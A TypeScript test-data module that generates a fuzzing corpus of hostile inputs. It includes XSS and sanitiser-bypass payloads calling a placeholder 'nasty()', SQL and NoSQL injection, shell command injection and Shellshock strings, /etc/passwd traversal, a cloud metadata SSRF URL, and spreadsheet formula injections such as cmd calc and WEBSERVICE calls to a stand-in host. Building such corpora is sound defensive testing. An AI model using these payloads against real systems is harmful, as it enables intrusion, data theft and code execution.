// Nasty text by the rule that makes it: a family of every event, every invisible space, every way to write a sign.

/** Every event that an element without a person's help or with it may raise. */
const events = (
  'abort animationstart auxclick beforeinput begin blur canplay change click contextmenu copy cut dblclick drag error focus ' +
  'focusin hashchange input invalid keydown load loadstart message mousedown mouseenter mouseover pageshow paste play ' +
  'pointerenter pointerover resize scroll select submit toggle touchstart transitionend unload wheel'
).split(' ');
const carriers = [
  'img src=x',
  'svg',
  'video src=x',
  'details open',
  'input autofocus',
  'body',
  'a tabindex=1 id=x',
  'audio src=x',
];

const handlers = events.map((event, n) => `<${carriers[n % carriers.length]} on${event}=nasty()>`);
const quoted = events.flatMap((event, n) => [
  `${['"', "'", '`', '\\"'][n % 4]} on${event}=nasty() ${['"', "'", '`', ''][n % 4]}`,
]);

/** What text leaves when it closes the element that it stands in. */
const closing = (
  'a b bdi button caption code dd div dl dt fieldset figure form h1 iframe label legend li main math noembed noscript ' +
  'object ol option p plaintext pre script section select small span strong style svg table tbody td template textarea th ' +
  'title tr ul video xmp'
)
  .split(' ')
  .map(tag => `</${tag}><img src=x onerror=nasty()>`);

/** Between the name of an element and its attribute anything of these may stand. */
const between = [' ', '/', '//', '\u00a0', '/x/', '\u3000'].map(gap => `<img${gap}src=x${gap}onerror=nasty()>`);

const spaces = [0xa0, 0x1680, 0x180e, 0x2000, 0x2003, 0x2007, 0x200a, 0x200b, 0x202f, 0x205f, 0x2060, 0x3000, 0xfeff];
const schemes = [
  ...spaces.map(code => `<a href="${String.fromCodePoint(code)}javascript:nasty()">x</a>`),
  ...[...'javascript'].map((_, n) => `${'javascript'.slice(0, n)}&#x0A;${'javascript'.slice(n)}:nasty()`),
  ...['vbscript:nasty()', 'data:text/html;base64,PHNjcmlwdD5uYXN0eSgpPC9zY3JpcHQ+', 'view-source:javascript:nasty()'],
  ...['//elsewhere.example/x', '\\\\elsewhere.example\\x', 'https:elsewhere.example', 'javascript://%0anasty()'],
];

/** The many ways to write `<`; decoded once too often, they become it. */
const written = [
  ...[0, 1, 2, 3, 4, 5].flatMap(zeros =>
    [';', ''].map(end => `&#${'0'.repeat(zeros)}60${end}img src=x onerror=nasty()>`),
  ),
  ...[0, 1, 2, 3, 4, 5].flatMap(zeros =>
    ['x', 'X'].map(sign => `&#${sign}${'0'.repeat(zeros)}3c;img src=x onerror=nasty()>`),
  ),
  ...[
    '%3C',
    '%253C',
    '\\x3c',
    '\\u003c',
    '\\74',
    '&lt',
    '&LT;',
    '&amp;lt;',
    '+ADw-',
    '\u02c2',
    '\ufe64',
    '\uff1c',
    '\u2039',
  ].map(sign => `${sign}img src=x onerror=nasty()>`),
];

/** Runs of 24 neighbours from scripts that programs have stumbled over. */
const blocks: Record<string, number> = {
  ...{ latin: 0xa1, extended: 0x180, ipa: 0x250, combining: 0x300, greek: 0x391, cyrillic: 0x410, armenian: 0x531 },
  ...{
    hebrew: 0x5d0,
    hebrewPoints: 0x591,
    arabic: 0x620,
    arabicMarks: 0x64b,
    syriac: 0x710,
    thaana: 0x780,
    nko: 0x7ca,
  },
  ...{
    devanagari: 0x905,
    bengali: 0x985,
    tamil: 0xb85,
    thai: 0xe01,
    tibetan: 0xf40,
    myanmar: 0x1000,
    georgian: 0x10d0,
  },
  ...{ hangul: 0x1100, ethiopic: 0x1200, cherokee: 0x13a0, khmer: 0x1780, mongolian: 0x1820, superscripts: 0x2070 },
  ...{ currency: 0x20a0, letterlike: 0x2100, fractions: 0x2150, arrows: 0x2190, operators: 0x2200, boxes: 0x2500 },
  ...{ dingbats: 0x2700, braille: 0x2800, cjk: 0x4e00, syllables: 0xac00, arabicForms: 0xfb50, arabicForms2: 0xfe70 },
  ...{ halfwidth: 0xff61, gothic: 0x10330, mathematics: 0x1d400, emoji: 0x1f600, flags: 0x1f1e6, rareCjk: 0x20000 },
};
const scripts = Object.values(blocks).map(start =>
  String.fromCodePoint(...Array.from({ length: 24 }, (_, n) => start + n)).normalize('NFC'),
);

const words = (
  'undef None NULL nil NIL true false TRUE yes on hasOwnProperty valueOf prototype __defineGetter__ then length name ' +
  'self this window document eval arguments CON PRN AUX NUL COM1 LPT1 nul.csv .htaccess ~ ~root . .. * ? ! | & ; \\ / # $ ' +
  '%s %d %n %x%x%x%x {0} $0 $& \\1 \\0 \\u0000 %00 %0d%0a'
).split(' ');

const numbers = (
  '0 00 1.00 1/2 1E2 1E+02 1e1000 -1/0 0/0 0x0 0xffffffff 0xabad1dea 1,000.00 1.000,00 1’000 Infinity -Infinity INF 1#IND 1#QNAN ' +
  '123456789012345678901234567890 0..0 . 0.0.0 0,,0 --1 -. ² ١٢٣ ۴۵۶ ७८९ ９９ ½ Ⅷ 〇'
).split(' ');

const queries = [
  ...[
    "'",
    "''",
    "' --",
    "';--",
    '1 or 1=1',
    "1' or '1'='1",
    '1)) union select null--',
    "admin'/*",
    "' and sleep(9)='",
    '"; select 1; --',
  ],
  ...[
    "\\'; drop table versions; --",
    '$$; select pg_sleep(9); $$',
    "x'||(select 1)||'",
    '%',
    '_',
    '\u02bc or 1=1',
    "E'\\x27'",
  ],
  ...[
    '*)(uid=*))(|(uid=*',
    "' or count(/*)=1 or 'a'='b",
    '{"$gt":""}',
    '[$ne]=1',
    '<!--#exec cmd="ls"-->',
    '<?php nasty(); ?>',
  ],
  ...['| ls', '; ls', '&& ls', '`ls`', '$(ls)', '%SYSTEMROOT%', '$HOME', '$ENV{HOME}', '() { :; }; touch /tmp/nasty'],
];

const paths = [
  ...[
    '/etc/passwd',
    '..\\..\\..\\boot.ini',
    '....//....//etc/passwd',
    '%2e%2e%2fetc%2fpasswd',
    '..%c0%af..',
    'file:///etc/passwd',
  ],
  ...[
    '\\\\?\\C:\\nul',
    'a/b.csv',
    'a\\b.csv',
    '.csv',
    '-rf',
    '--help',
    'a.csv.exe',
    'a;filename=b.exe',
    'a".csv',
    "a'.csv",
  ],
  ...['http://169.254.169.254/latest/meta-data', 'http://localhost/', 'http://[::1]/', 'gopher://127.0.0.1/'],
];

const formulas = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@A1',
    '=A1',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠A1',
    '"=1+1"',
    "'=1+1",
  ],
  ...['=IMPORTXML("https://elsewhere.example","//a")', '=WEBSERVICE("https://elsewhere.example")', '=DDE("x";"y";"z")'],
  ...[
    "=2+5+cmd|' /C calc'!A0",
    '=-1+cmd|x',
    ';=1+1',
    '=1+1;=2+2',
    '{=1+1}',
    '=HYPERLINK(A1)',
    '#REF!',
    '=#REF!',
    '=""',
    '=',
    '==',
    '=@',
  ],
];

const templates = [
  ...[
    '{{7*7}}',
    '<%= 7*7 %>',
    '#{7*7}',
    '{7*7}',
    '*{7*7}',
    '@(7*7)',
    '[[7*7]]',
    '{%7*7%}',
    '{{{x}}}',
    '<%% x %%>',
    '%>',
    '<%',
  ],
  ...[
    '{{=nasty()}}',
    "{{[].pop.constructor('nasty()')()}}",
    '$t(site.name)',
    '{{t}}',
    '{{- count}}',
    '__name__',
    '%{x}',
    '~{x}',
  ],
];

/** Payloads that sanitisers have let through, because they read them otherwise than a browser does. */
const misread = [
  '<noscript><p title="</noscript><img src=x onerror=nasty()>">',
  '<svg></p><style><a id="</style><img src=1 onerror=nasty()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=nasty()>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=nasty()></style></annotation-xml></math>',
  '<svg><foreignObject><iframe onload=nasty()></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>nasty()</script></svg>#x">',
  '<svg><set attributeName=href to=javascript:nasty() /><a><text>x</text></a></svg>',
  '<template shadowrootmode=open><script>nasty()</script></template>',
  '<object data="javascript:nasty()">',
  '<embed src="javascript:nasty()">',
  '<portal src="javascript:nasty()">',
  '<table background="javascript:nasty()">',
  '<div style="background:url(javascript:nasty())">',
  '<div style="width:expression(nasty())">',
  '<button formaction=javascript:nasty()>x</button>',
  '<isindex action=javascript:nasty() type=image>',
  '<img src=`x` onerror=`nasty()`>',
  '<img """><script>nasty()</script>">',
  '<img src=x:x onerror=nasty()//',
  '<script src=//elsewhere.example/x.js></script>',
  '<script/nasty>nasty()</script>',
  '<script\u00a0>nasty()</script>',
  '<<script>nasty();//<</script>',
  '<script>nasty()//',
  '<!--<img src="--><img src=x onerror=nasty()//">',
  '<comment><img src="</comment><img src=x onerror=nasty()">',
  '<![><img src="]><img src=x onerror=nasty()//">',
  '<xss id=x tabindex=1 onfocus=nasty()></xss>',
  '<a href=javas&#99;ript:nasty()>x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;nasty()">x</a>',
  '<input type=hidden name=act value=publish>',
  '<a id=document><a id=document name=cookie>',
  '<img name=getElementById><form id=x><input name=attributes>',
];

export const nastyFamilies: readonly string[] = [
  ...[handlers, quoted, closing, between, schemes, written, misread],
  ...[scripts, words, numbers, queries, paths, formulas, templates],
].flat();
